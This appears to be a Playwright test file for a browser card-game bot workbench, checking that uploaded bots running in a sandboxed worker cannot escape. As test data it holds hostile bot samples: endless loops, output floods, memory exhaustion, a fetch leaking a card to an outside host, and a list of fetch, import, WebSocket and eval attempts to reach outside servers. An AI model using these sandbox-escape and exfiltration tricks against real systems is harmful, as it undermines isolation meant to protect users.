"""The bot workbench in Chromium: testing a file, hostile files, worker limits, a log, a seat."""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from e2e import axe, met
from e2e.hands import settle
from e2e.kept import visit
from ortalab.games.huxxy.game import deal
from ortalab.serving import FOLDER, Handler

if TYPE_CHECKING:
    import io
    from typing import BinaryIO

    from playwright.sync_api import Page, Route

    from e2e.watch import Watch

DEAL = "#1-102"
pytestmark = pytest.mark.at(f"huxxy/{DEAL}")

HOSTILE = """
DEALT = {dealt!r}

def comp10001huxxy_play(history, player, hand, table):
    if len(history) < 4 + player or not set(DEALT[player]) <= set(hand):
        return player, 0, None
    if player == 0:
        while True:
            pass
    if player == 1:
        while True:
            print("x" * (1 << 20))
    if player == 2:
        try:
            bytearray(1 << 30)
        except MemoryError:
            print("<b>asks</b>")
        import js
        from pyodide.ffi import run_sync
        return js.fetch("https://example.org/?" + hand[0])
    return player, 0, None
"""
"""Hostile programs by seat in a deal: loops, endless output, too much memory and a forbidden request."""
REASONS = (
    "a play took longer than 2 s",
    "it printed more than 64 KiB in one play",
    "AttributeError: fetch, line 20",
)
ONE_CORE = "Object.defineProperty(navigator, 'hardwareConcurrency', { configurable: true, get: () => 1 })"
ALL_CORES = "delete navigator.hardwareConcurrency"


@pytest.mark.long
def test_a_hostile_bot_forfeits_its_games_harms_nothing_and_plays_at_the_table(live: Page, tmp_path: Path) -> None:
    file, text = tmp_path / "mine.py", HOSTILE.format(dealt=deal(0).hands)
    file.write_text(text, encoding="utf-8")
    live.click("#place-workbench")
    expect(live.locator("#bot-hint")).to_contain_text("The file is empty")
    expect(live.locator("#bot-hint")).to_contain_text("It stays in this browser.")
    with live.expect_file_chooser() as chooser:
        live.click("#open-bot")
    chooser.value.set_files(file)
    expect(live.locator("#bot-text")).to_have_value(text)
    expect(live.locator("#notice")).to_have_text("One function found, one right.")
    live.evaluate(ONE_CORE)
    live.click("#run-games")
    live.click("#place-table")  # the page stays responsive
    expect(live.locator("#end-turn")).to_be_visible()
    live.click("#place-workbench")
    expect(live.locator(".fft span")).to_have_count(len(REASONS))
    live.evaluate(ALL_CORES)
    live.click("#stop-games")
    expect(live.locator("#notice")).to_have_text("Stopped. The finished games are kept.")
    assert live.locator(".fft span").all_inner_texts() == [f"{why[0].upper()}{why[1:]}." for why in REASONS]
    look_at_a_game(live)
    live.click("#seat-bot")
    expect(live.locator("#seats")).to_contain_text("Ada, your bot")
    live.click("#pick-up")
    expect(live.locator("#notice")).to_contain_text("Ada picks up.")
    expect(live.locator("#notice")).to_contain_text("Your turn.")


def look_at_a_game(page: Page) -> None:
    """Open a forfeited game of the games between bots, and save its log."""
    expect(page.locator(".strip li").nth(2)).to_be_visible()
    page.click("#forfeit-2")
    expect(page.locator(".flop")).to_contain_text("AttributeError: fetch")
    expect(page.locator(".printed pre")).to_have_text("<b>asks</b>")
    page.click("#play-back")
    assert (axe.faults(page), met.untested(page)) == ([], [])
    with page.expect_download() as download:
        page.click("#save-log")
    assert download.value.suggested_filename == "huxxy-game-3.jsonl"
    *_, end = Path(download.value.path()).read_text("utf-8").splitlines()
    assert json.loads(end)["forfeit"] == 2


MINE = """
import js
import pyodide_js

HOST = {host!r}
WAYS = {{
    "function": lambda text: js.Function(text)(),
    "constructor": lambda text: js.Function.prototype.constructor(text)(),
    "evaluation": lambda text: js.eval("(() => {{" + text + "}})()"),
    "timer": lambda text: js.setTimeout(text, 0),
    "package": lambda text: pyodide_js.loadPackage(HOST + "sw.js?package"),
}}

def comp10001huxxy_score(cards, calls=[]):
    if calls:
        return 0
    calls.append(cards)
    text = "return import('" + HOST + "sw.js?" + "-".join(cards) + "').catch(() => 0)"
    print("asked")
    for way in WAYS.values():
        try:
            way(text)
        except Exception:
            pass
    return 0

def comp10001huxxy_valid_table(groups):
    print("groups", groups)
    return all(len({{card[0] for card in group}}) == 1 and len(group) > 2 for group in groups)
"""
"""Two wrong functions, the first of which tries to reach the page's host."""


def test_a_file_is_tested_as_typed_reaches_not_even_the_host_of_the_page_and_is_stored(
    live: Page, address: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The inherited policy lets the worker import the page's own files, but not turn text into a script."""
    heard: list[str] = []
    send_head = Handler.send_head

    def listen(handler: Handler) -> io.BytesIO | BinaryIO | None:
        heard.append(handler.path)
        return send_head(handler)

    monkeypatch.setattr(Handler, "send_head", listen)
    text = MINE.format(host=address)
    live.click("#place-workbench")
    type_by_keys(live)
    live.fill("#bot-text", text)
    expect(live.locator("#notice")).to_have_text("Two functions found, none right.")
    live.evaluate("fetch('../sw.js?page')")  # the host hears the page itself
    assert [path for path in heard if "?" in path] == [f"{FOLDER}sw.js?page"]
    squares = live.locator(".fn .sq").evaluate_all("(all) => all.map((one) => one.getAttribute('aria-label'))")
    assert squares == ["wrong", "wrong", "missing", "missing"]
    assert live.locator("#out-name").inner_text() == "score says 0"
    expect(live.locator(".prt").first).to_have_text("asked")
    expect(live.locator(".out .card[data-rank='A']")).to_be_visible()
    live.click("#case-valid_table")
    expect(live.locator("#out-name")).to_have_text("valid_table says True")
    expect(live.locator(".prt").last).to_contain_text("groups [[")
    look_at_the_tabs(live)
    settle(live)
    kept = live.evaluate("['bot', 'versions'].map((name) => localStorage.getItem(`ortalab-huxxy-${name}`))")
    visit(live, DEAL, huxxy_bot=kept[0], huxxy_versions=kept[1])
    expect(live.locator(".vers")).to_have_count(0)
    live.click("#place-workbench")
    expect(live.locator("#bot-text")).to_have_value(text)
    expect(live.locator(".vers")).to_contain_text("0 of 2 right")


def look_at_the_tabs(page: Page) -> None:
    """Look at the workbench on a narrow screen, one part at a time."""
    page.set_viewport_size({"width": 390, "height": 844})
    page.click("#tab-cases")
    expect(page.locator("#bot-text")).to_be_hidden()
    expect(page.locator(".cs .card").first).to_be_visible()
    assert axe.faults(page) == []
    page.set_viewport_size({"width": 1280, "height": 720})
    expect(page.locator("#bot-text")).to_be_visible()


def type_by_keys(page: Page) -> None:
    """Indent a line by Tab, and leave the text by Escape and Tab."""
    page.locator("#bot-text").fill("x = 1")
    page.locator("#bot-text").press("ControlOrMeta+Home")
    page.keyboard.press("Tab")
    expect(page.locator("#bot-text")).to_have_value("    x = 1")
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    expect(page.locator("#bot-text")).not_to_be_focused()


TRIES = """
const tries = {
    fetch: () => fetch(OUT, { mode: "no-cors" }),
    import: () => import(OUT + "x.js"),
    script: () => importScripts(OUT + "x.js"),
    request: () => new Promise((ok, lost) => {
        const one = new XMLHttpRequest();
        one.onload = ok;
        one.onerror = () => lost(new Error("refused"));
        one.open("GET", OUT);
        one.send();
    }),
    socket: () => new Promise((ok, lost) => {
        const one = new WebSocket(OUT.replace("http", "ws"));
        one.onopen = ok;
        one.onerror = () => lost(new Error("refused"));
    }),
    events: () => new Promise((ok, lost) => {
        const one = new EventSource(OUT);
        one.onopen = ok;
        one.onerror = () => lost(new Error("refused"));
    }),
    worker: () => new Promise((ok, lost) => {
        const text = `fetch("${OUT}").then(() => postMessage(1), () => postMessage(0))`;
        const one = new Worker("data:text/javascript," + encodeURIComponent(text));
        one.onmessage = ({ data }) => (data ? ok() : lost(new Error("refused")));
        one.onerror = () => lost(new Error("refused"));
    }),
    text: () => Function("return import(self.name)")(),
    evaluation: () => (0, eval)("1"),
    database: () => { indexedDB.open("x"); },
    caches: () => caches.open("x"),
};
(async () => {
    const told = {};
    for (const [name, act] of Object.entries(tries))
        told[name] = await (async () => act())().then(() => "done", () => "refused");
    postMessage({ ...told, origin: self.origin });
})();
"""


def keep_policy(route: Route) -> None:
    """Answer with a page's policy alone."""
    answer = route.fetch()
    found = re.search("<meta http-equiv=.Content-Security-Policy.[^>]*>", answer.text())
    assert found
    route.fulfill(response=answer, body=found[0])


def test_the_policy_lets_no_request_out_of_a_bots_worker(watched: tuple[Page, Watch], address: str) -> None:
    """Test the page's policy and the worker's separate origin."""
    page, _ = watched
    heard: list[str] = []

    class Out(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_: object) -> None: ...

    outside = HTTPServer(("127.0.0.1", 0), Out)
    threading.Thread(target=outside.serve_forever, daemon=True).start()
    page.route("**/huxxy/", keep_policy)
    page.goto(f"{address}huxxy/")
    script = f"const OUT = 'http://127.0.0.1:{outside.server_port}/';{TRIES}"
    told = page.evaluate(
        """(text) => new Promise((ok, lost) => {
            const worker = new Worker("data:text/javascript," + encodeURIComponent(text));
            worker.onmessage = ({ data }) => ok(data);
            worker.onerror = ({ message }) => lost(message);
        })""",
        script,
    )
    outside.shutdown()
    outside.server_close()
    assert told.pop("origin") == "null"
    assert (set(told.values()), heard) == ({"refused"}, []), told


FULL = """() => {
    globalThis.whole = Storage.prototype.setItem;
    Storage.prototype.setItem = () => { throw new DOMException("full"); };
}"""
EMPTY = """() => {
    Storage.prototype.setItem = globalThis.whole;
    delete globalThis.whole;
}"""


def test_the_workbench_says_that_the_browser_does_not_keep_the_file(live: Page) -> None:
    live.evaluate(FULL)
    visit(live, DEAL)
    live.click("#place-workbench")
    expect(live.locator("#bot-hint")).to_contain_text("This browser does not store it: save the file yourself.")
    live.evaluate(EMPTY)
